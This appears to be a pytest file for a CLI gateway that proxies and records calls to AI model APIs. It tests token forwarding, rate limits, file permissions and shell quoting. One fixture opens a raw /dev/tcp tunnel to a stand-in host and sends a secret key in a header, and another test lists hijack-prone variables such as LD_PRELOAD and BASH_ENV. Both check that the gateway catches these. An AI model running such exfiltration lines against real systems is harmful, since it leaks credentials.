"""`sampleproof serve`, as a user meets it."""

import io
import os
import shlex
import socket
import subprocess
import sys

import pytest
from serving import ROOT, served
from upstreams import right, upstream

from harness.cli.serve import keep_to_oneself
from harness.live.shells import setting, settings, way_back
from harness.model.problem import HarnessError, InvalidError


def in_shell(serving, command):
    """A command in a shell that has been told to use the gateway."""
    lines = "\n".join(serving.lines)
    return subprocess.run(
        ["bash", "-c", f"{lines}\n{command}"],
        env={"PATH": os.environ["PATH"]},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_a_published_sample_is_answered_in_ones_own_shell():
    with served() as serving:
        done = in_shell(serving, f"bash {shlex.quote(str(ROOT / 'samples/curl/basic.sh'))}")
        miss = in_shell(serving, 'curl -s "$https_proxy/v1/chat/completions" -d "{}"')
        code, said = serving.stop()
    assert '"content":"Paris is the capital of France.' in done.stdout
    assert "no_recording" in miss.stdout
    assert code == 0, said
    first, second, third = said.splitlines()
    assert first.endswith("POST models.inference.ai.azure.com/chat/completions 200")
    assert "127.0.0.1/v1/chat/completions 400  nearest is " in second
    assert "unset HTTPS_PROXY; " in third
    assert "unset NO_PROXY; " in third


def test_what_ones_shell_exempts_from_proxies_is_answered_too():
    with served("--responder", "echo") as serving:
        lines = "\n".join(serving.lines)
        url = "https://models.inference.ai.azure.com/chat/completions"
        body = '{"messages":[{"role":"user","content":"Hi"}]}'
        ask = f"curl -s -m 20 -w '%{{http_code}}' -o /dev/null {url} -d '{body}'"
        kind = "-H 'Content-Type: application/json' -H 'Authorization: Bearer x'"
        done = subprocess.run(
            ["bash", "-c", f"{lines}\n{ask} {kind}"],
            env={"PATH": os.environ["PATH"], "NO_PROXY": "*", "no_proxy": ".azure.com,localhost"},
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        code, said = serving.stop()
    assert done.stdout == "200", done.stderr
    assert "POST models.inference.ai.azure.com" in said
    assert code == 0


BESIDE = r"""
place=${https_proxy#http://}; host=${place%:*} port=${place#*:}
exec 3<>"/dev/tcp/$host/$port"
printf 'CONNECT telemetry.example.org:443 HTTP/1.1\r\nHost: t\r\nX-For: %s\r\n\r\n' "$KEY" >&3
read -r _ <&3; exec 3>&-
exec 3<>"/dev/tcp/$host/$port"
printf '\5\1\0' >&3; read -r _ <&3; exec 3>&-
curl -s -o /dev/null https://models.inference.ai.azure.com/chat/completions -d '{}'
"""


def test_what_comes_beside_requests_is_told():
    key = "github_pat_0123456789abcdef"
    with served(GITHUB_TOKEN=key) as serving:
        in_shell(serving, f"export KEY={key}\n{BESIDE}")
        code, said = serving.stop()
    assert code == 0, said
    tunnel, socks, request, _ = said.splitlines()
    assert " CONNECT telemetry.example.org:443  no request came" in tunnel
    assert "to let it through: " in tunnel
    assert "serve --pass telemetry.example.org" in tunnel
    assert "the token shows in the request for a tunnel" in tunnel
    assert "3 bytes that are no whole request" in socks
    assert " POST models.inference.ai.azure.com/chat/completions 400 " in request
    assert key not in said


def test_a_tier_is_enforced():
    with served("--responder", "echo", "--limits", "high") as serving:
        body = '{"messages": [{"role": "user", "content": "Hi"}]}'
        ask = f"curl -s -o /dev/null -w '%{{http_code}} ' $https_proxy/chat/completions -H 'api-key: k' --json '{body}';"
        done = in_shell(serving, ask * 11)
    assert done.stdout.split() == ["200"] * 10 + ["429"]


KEY = "sk-live-0123456789abcdef"
FORWARDED = r"""
ask() { curl -s -o /dev/null -w '%{http_code} ' "$@" -d '{}'; }
sample=https://models.inference.ai.azure.com/chat/completions
tools=$https_proxy/v1/chat/completions
for url in $sample $tools; do
    ask $url -H "Authorization: Bearer $GITHUB_TOKEN"
    ask $url -H "api-key: $GITHUB_TOKEN"
    ask $url
    ask $url -H "Authorization: Bearer sampleproof-0"
    ask $url -H "X-Token: $GITHUB_TOKEN"
done
ask $https_proxy/v1/files -H "Authorization: Bearer $GITHUB_TOKEN"
ask -X DELETE $tools -H "Authorization: Bearer $GITHUB_TOKEN"
ask $tools --noproxy '*' -H 'Host: rebound.example' -H "Authorization: Bearer $GITHUB_TOKEN"
ask $tools --noproxy '*' -H 'Origin: https://a.example' -H "Authorization: Bearer $GITHUB_TOKEN"
"""


def test_only_who_has_the_printed_token_is_forwarded_with_the_key():
    with (
        upstream(right) as endpoint,
        served("--endpoint", endpoint.url, SAMPLEPROOF_KEY=KEY) as serving,
    ):
        done = in_shell(serving, FORWARDED)
        code, said = serving.stop()
    each = ["200", "200", "403", "403", "403"]
    assert done.stdout.split() == [*each, *each, "404", "404", "403", "403"], said
    keys = [one["headers"].get("authorization") for one in endpoint.requests]
    assert keys == [f"Bearer {KEY}"] * 4
    assert {one["target"] for one in endpoint.requests} == {"/v1/chat/completions"}
    assert "needs the token that serve has printed" in said
    assert code == 0
    assert KEY not in said + done.stdout + "".join(serving.lines)


def test_nobody_else_may_read_the_file_that_the_lines_are_in(tmp_path):
    """They hold a token that is worth a key as long as it is served."""
    with (tmp_path / "lines.sh").open("w") as lines:
        (tmp_path / "lines.sh").chmod(0o644)
        keep_to_oneself(lines)
    assert (tmp_path / "lines.sh").stat().st_mode & 0o777 == 0o600
    keep_to_oneself(io.StringIO())


@pytest.mark.parametrize(
    "name", ["PATH", "LD_PRELOAD", "PYTHONPATH", "BASH_ENV", "PROMPT_COMMAND", "NODE_OPTIONS"]
)
def test_no_project_has_the_shell_itself_changed(name):
    with pytest.raises(InvalidError, match=name):
        list(settings("bash", {name: "any", "HTTPS_PROXY": "http://127.0.0.1:1"}, "GITHUB_TOKEN"))


def test_each_shell_is_told_the_way_back():
    assert way_back("bash", ["A", "B"]) == "unset A; unset B"
    assert way_back("fish", ["A"]) == "set -eg A"
    assert way_back("powershell", ["A"]) == "$env:A = $null"
    assert way_back("cmd", ["A", "B"]) == 'set "A=" & set "B="'


def test_a_taken_port_says_what_to_do():
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        done = subprocess.run(
            [sys.executable, "-m", "harness", "serve", "--port", str(port)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
    assert done.returncode == 3
    assert f"port {port} is taken" in done.stderr
    assert "--port N" in done.stderr
    assert not done.stdout


@pytest.mark.parametrize(
    ("arguments", "code", "says"),
    [
        (["--responder", "forward"], 2, "needs --endpoint"),
        (["--responder", "echo", "--endpoint", "ollama"], 2, "contradict"),
        (["--endpoint", "olama"], 2, "did you mean ollama"),
        (["--endpoint", "openai"], 3, "OPENAI_API_KEY is not set"),
        (["--limits", "lowest"], 2, "known: low, high"),
        (["--pass", "*.org"], 2, "--pass: expected a host"),
        (["--pass", "models.github.ai"], 2, "is answered here"),
    ],
)
def test_a_call_that_cannot_be_met_says_why(arguments, code, says):
    done = subprocess.run(
        [sys.executable, "-m", "harness", "serve", *arguments],
        cwd=ROOT,
        env={name: os.environ[name] for name in ("PATH", "HOME", "SAMPLEPROOF_CACHE_DIR")},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == code, done.stderr
    assert says in done.stderr


def test_bash_reads_back_any_value():
    value = 'it\'s a "path" with $HOME, `ls` and \\ in it'
    line = setting("bash", "NAME", value)
    shown = subprocess.run(
        ["bash", "-c", f'{line}\nprintf %s "$NAME"'], capture_output=True, text=True, check=True
    )
    assert shown.stdout == value


def test_other_shells_have_their_own_words():
    assert setting("fish", "N", "it's") == "set -gx N 'it\\'s'"
    assert setting("fish", "N", "a\\b") == "set -gx N 'a\\\\b'"
    assert setting("powershell", "N", "it's") == "$env:N = 'it''s'"
    assert setting("cmd", "N", "it's") == 'set "N=it\'s"'
    with pytest.raises(HarnessError, match="cmd cannot hold"):
        setting("cmd", "N", 'a"b')
